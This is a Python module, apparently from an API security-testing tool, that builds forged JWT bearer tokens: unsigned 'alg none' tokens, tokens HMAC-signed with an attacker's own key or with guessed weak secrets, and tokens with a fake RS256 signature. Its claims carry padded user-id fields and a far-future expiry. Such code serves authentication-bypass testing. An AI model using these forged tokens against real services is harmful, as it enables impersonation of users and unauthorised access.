"""Tokens that anybody can make."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from typing import TYPE_CHECKING, Any

from goatherd.attack.events import moment

if TYPE_CHECKING:
    from collections.abc import Iterator

    from goatherd.attack.events import Identity
    from goatherd.attack.marks import Marks

_EXPIRES = 4_102_444_800  # 2100-01-01
_GUESSED = ("secret", "changeme", "your-256-bit-secret")


def forged(identity: Identity, marks: Marks) -> Iterator[tuple[str, str]]:
    """How each was made, and the token as `Identity.bearer` gives one."""
    claims = {**identity.all_claims(), "iat": moment.SECONDS, "exp": _EXPIRES}
    claims |= {"userId": identity.subject, "user_id": identity.subject, "id": identity.subject}
    yield "that nobody has signed (alg none)", _token({"alg": "none", "typ": "JWT"}, claims, lambda _: b"")
    key = marks.new()
    yield "signed with a key of the outsider's own", _token({"alg": "HS256", "typ": "JWT"}, claims, _hmac(key))
    foreign = {"alg": "RS256", "kid": "goatherd", "typ": "JWT"}
    yield "with somebody else's signature", _token(foreign, claims, lambda text: hashlib.sha512(text).digest() * 4)
    for guess in _GUESSED:
        yield f'signed with "{guess}"', _token({"alg": "HS256", "typ": "JWT"}, claims, _hmac(guess))


def _hmac(key: str) -> Any:
    return lambda text: hmac.new(key.encode(), text, hashlib.sha256).digest()


def _token(header: dict[str, Any], claims: dict[str, Any], sign: Any) -> str:
    text = ".".join(_segment(json.dumps(part).encode()) for part in (header, claims))
    return f"Bearer {text}.{_segment(sign(text.encode()))}"


def _segment(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")
